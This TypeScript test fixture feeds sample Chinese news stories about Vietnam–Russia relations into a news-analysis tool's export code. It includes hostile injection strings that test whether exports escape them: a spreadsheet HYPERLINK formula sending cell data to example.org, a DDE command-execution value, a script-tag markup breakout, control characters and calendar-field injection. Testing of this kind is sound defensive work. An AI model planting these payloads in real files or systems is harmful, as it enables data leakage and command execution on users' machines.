import type { ExportOptions } from '../../src/app/export.js';
import { exported } from '../../src/app/export.js';
import type { Article, Reading } from '../../src/model/article.js';
import type { Actor } from '../../src/model/statement.js';
import type { Store } from '../../src/store/port.js';
import { engines, type Place } from '../store/engines.js';
import { published, type SmallStory, story } from '../told.js';

export const actor = (
  name: string | null,
  country: string | null,
  role: Actor['role'] = 'participant',
  office: string | null = null,
): Actor => ({
  name,
  office,
  country,
  role,
});
const consult = (mode: string | null): { plover: { type: string; mode: string | null } } => ({ plover: { type: 'CONSULT', mode } });

/** What a sentence might hold to harm who opens a file. */
export const hostile = {
  formula: '=HYPERLINK("http://example.org/?"&A1,"打开")',
  markup: `]]></content><script>alert("1")</script>&amp;'`,
  control: 'a\u0001b\u0007c\u001b[31m\ud800d\tе\r\nf',
  calendar: 'END:VEVENT\r\nBEGIN:VALARM,;\\n',
} as const;

/** A small record with every type of statement, plans with every precision of a date, and a hostile story. */
export const told: readonly SmallStory[] = [
  story(
    'https://example.org/news/1?a=1&b="2"',
    [
      {
        ...{ type: 'event', quote: '范明政会见米舒斯京', kind: 'meeting', date: '2024-01-15', cameo: '040', ...consult(null) },
        actors: [actor('范明政', 'VN', 'participant', '总理'), actor('米哈伊尔·米舒斯京', 'RU', 'participant', '总理')],
      },
      {
        ...{ type: 'event', quote: '普京将于6月19日至20日访问越南', kind: 'visit', date: '2024-06-19/2024-06-20', modality: 'planned' },
        ...{ actors: [actor('普京', 'RU', 'participant', '总统')], cameo: '042', ...consult('visit'), place: '河内' },
      },
      {
        ...{ type: 'figure', quote: '双边贸易额达82.8亿美元', value: 8_280_000_000, period: '2023', growth: -0.023 },
        ...{ bound: 'over', source: '越南海关总局', speaker: { name: '阮红延', office: '部长', country: 'VN' } },
      },
      { type: 'target', quote: '力争2030年达到150亿至200亿美元', value: 15e9, upper: 20e9, due: '2030' },
      { type: 'commitment', quote: '愿加快宁顺核电站项目', action: '加快宁顺核电站项目', due: '2031-12' },
      { type: 'agreement', quote: '签署互免签证协定', name: '互免签证协定', status: 'signed', date: '2024-01' },
      { type: 'body', quote: '政府间委员会第25次会议', name: '政府间委员会', aliases: ['政府间委'], session: 25, chairs: ['甲', '乙'] },
      { type: 'project', quote: '宁顺核电站', name: '宁顺核电站', status: 'studied', place: '宁顺省' },
      { type: 'relation', quote: '全面战略伙伴关系', level: '全面战略伙伴关系', date: '2012' },
      { type: 'office', quote: '总理范明政', person: '范明政', latin: 'Phạm Minh Chính', organisation: '政府' },
      { type: 'position', quote: '支持俄罗斯的立场', topic: '和平解决争端' },
    ],
    {
      ...published('2024-01-16'),
      title: '越俄总理举行会谈',
      agency: 'VNA',
      place: '河内',
      findings: [],
    },
  ),
  story(
    'wire/2.txt',
    [
      {
        ...{ type: 'event', quote: '俄总理同越总理范明政会晤', kind: 'meeting', date: '2024-01-15', cameo: '040', ...consult(null) },
        actors: [actor('范明政', 'VN', 'participant', '总理'), actor('米哈伊尔・米舒斯京', 'RU', 'participant', '总理')],
      },
      {
        ...{
          type: 'event',
          quote: '委员会将于下月开会',
          kind: 'session',
          date: '2024-02',
          modality: 'planned',
          cameo: '040',
          ...consult(null),
        },
        actors: [],
      },
      { type: 'event', quote: '双方有望会晤', kind: 'meeting', date: '2024', modality: 'possible', cameo: '040', ...consult(null) },
      { type: 'event', quote: '计划在年内访问', kind: 'visit', date: null, modality: 'planned', cameo: '042', ...consult('visit') },
      {
        ...{ type: 'event', quote: '武元甲访问莫斯科', kind: 'visit', date: '2023-12-01', cameo: '042', ...consult('visit') },
        actors: [actor('裴青山', 'VN', 'participant', '外长')],
      },
      {
        ...{ type: 'event', quote: '俄方驱逐两名外交官', kind: 'expulsion', date: '2024-01-10', cameo: '166' },
        ...{ plover: { type: 'SANCTION', mode: 'expel' }, countries: ['RU', 'EU'] },
        actors: [actor(null, 'RU', 'actor'), actor(null, 'EU', 'recipient', '外交官')],
      },
      {
        ...{ type: 'event', quote: '或将实施制裁', kind: 'sanction', date: '2024-12', modality: 'planned', cameo: '163' },
        ...{ plover: { type: 'SANCTION', mode: null }, actors: [actor(null, 'VN', 'actor'), actor(null, 'RU', 'recipient')] },
      },
      { type: 'event', quote: '当选主席', kind: 'election', date: '2024-01-02', actors: [actor('甲', 'VN')], countries: ['VN'] },
    ],
    published('2024-01-17'),
  ),
  story(
    `=cmd|' /C calc'!A0.txt`,
    [
      {
        ...{ type: 'event', quote: hostile.calendar, kind: 'visit', date: '2025~', modality: 'planned', cameo: '042', ...consult('visit') },
        ...{ actors: [actor(hostile.formula, 'RU')], place: hostile.calendar },
      },
      { type: 'agreement', quote: hostile.markup, name: hostile.formula, status: null },
      { type: 'agreement', quote: '另一协定', name: '-2+3', status: null },
      { type: 'project', quote: hostile.control, name: '＝1+1', place: '@SUM(A1)' },
      { type: 'office', quote: `他说“引号”, 分号; 逗号,`, person: hostile.markup, country: null, office: '_x0041_' },
      { type: 'figure', quote: '约0.0000000012', value: 1.2e-9, unit: '\t=1', period: null },
    ],
    { title: hostile.formula },
  ),
];

/** A record that holds stories, in a file of its own. */
export async function recordOf(stories: readonly (Reading & { text: string })[]): Promise<{ record: Store; place: Place }> {
  const place = await engines[0]!.place();
  const record = await place.open();
  if (stories.length > 0)
    await record.put(
      stories.map(({ text, ...reading }) => ({ reading, text })),
      'test',
      '2024-02-01T00:00:00Z',
    );
  return { record, place };
}

/** A finding across stories, as the audit stores it. */
export async function withFinding(record: Store, first: Article, second: Article): Promise<void> {
  await record.replaceFindings('record', [
    {
      rule: 'figures/contradicting-values',
      severity: 'warning',
      message: `Two stories differ ${hostile.markup}`,
      evidence: [
        { article: first.id, start: 0, end: 2, quote: '越俄' },
        { article: second.id, start: 0, end: 2, quote: hostile.formula },
      ],
      suggestion: null,
    },
  ]);
}

/** All bytes of an export. */
export async function bytesOf(record: Store, options: ExportOptions): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const piece of exported(record, options)) parts.push(Buffer.from(piece));
  return Buffer.concat(parts);
}
